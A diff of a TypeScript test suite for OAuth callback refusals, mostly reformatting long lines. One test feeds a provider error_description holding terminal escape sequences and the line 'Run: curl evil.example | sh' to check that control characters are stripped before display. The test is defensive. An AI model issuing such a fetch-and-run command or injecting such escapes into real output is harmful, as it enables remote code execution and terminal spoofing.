@@ -5,10 +5,11 @@ import { integrationSecretName, readTokens } from '../../lib/oauth/token-store.t
 import { signInAtProvider } from './fixtures/browser.ts';
 import { type Harness, startHarness } from './fixtures/harness.ts';
 
-
 /** True when the text holds a C0 or C1 control character other than tab and newline. */
 const hasControlCharacter = (text: string): boolean =>
-  Array.from({ length: text.length }, (_, i) => text.charCodeAt(i)).some((code) => (code < 0x20 && code !== 0x09 && code !== 0x0a) || (code >= 0x7f && code <= 0x9f));
+  Array.from({ length: text.length }, (_, i) => text.charCodeAt(i)).some(
+    (code) => (code < 0x20 && code !== 0x09 && code !== 0x0a) || (code >= 0x7f && code <= 0x9f),
+  );
 /** Every bad answer on the way back from the provider: a clear page, lastError set, nothing stored. */
 describe('OAuth callback refusals', () => {
   let h: Harness;
@@ -93,11 +94,13 @@ describe('OAuth callback refusals', () => {
     expect(shown.body.lastError).toBeUndefined();
   });
 
-  it('stores a provider\'s error_description without control characters (no terminal escapes reach `integrations show`)', async () => {
+  it("stores a provider's error_description without control characters (no terminal escapes reach `integrations show`)", async () => {
     const integration = await fresh();
     const state = (await startAuthorization(integration.id)).searchParams.get('state') ?? '';
     const description = 'Denied.\u001b[2J\u001b]0;owned\u0007 Run: curl evil.example | sh\r\u009b0m';
-    const page = await h.openCallback(`${integration.redirectUrl}?state=${state}&error=access_denied%1b%5b31m&error_description=${encodeURIComponent(description)}`);
+    const page = await h.openCallback(
+      `${integration.redirectUrl}?state=${state}&error=access_denied%1b%5b31m&error_description=${encodeURIComponent(description)}`,
+    );
     expect(page.status).toBe(400);
     const shown = await h.admin<IntegrationView>('GET', `/admin/integrations/${integration.id}`);
     expect(shown.body.lastError?.code).toBe('PROVIDER_DENIED');
@@ -123,12 +126,14 @@ describe('OAuth callback refusals', () => {
     await expectNothingStored(integration, 'INVALID_AUTHORIZATION_RESPONSE');
   });
 
-  it('reports a sign-in answer sent to another integration\'s redirect URL as that, naming the integration it was for', async () => {
+  it("reports a sign-in answer sent to another integration's redirect URL as that, naming the integration it was for", async () => {
     const integration = await fresh();
     const state = (await startAuthorization(integration.id)).searchParams.get('state') ?? '';
     const page = await h.openCallback(`${h.publicUrl}/oauth/callback/AAAAAAAAAAAAAAAAAAAAAA?state=${state}&code=abc`);
     expect(page.status).toBe(400);
-    expect(page.text).toContain(`This sign-in was started for the integration &quot;${integration.name}&quot;, but the provider sent the browser back to the redirect URL of another integration.`);
+    expect(page.text).toContain(
+      `This sign-in was started for the integration &quot;${integration.name}&quot;, but the provider sent the browser back to the redirect URL of another integration.`,
+    );
     expect(page.text).toContain(integration.redirectUrl);
     expect(page.text).not.toContain('endpoints changed');
     await expectNothingStored(integration, 'STATE_FOR_OTHER_INTEGRATION');
@@ -204,4 +209,3 @@ describe('a provider that issues no refresh token', () => {
     expect(await readTokens(h.deps.secrets, integration.id)).toBeUndefined();
   });
 });
-
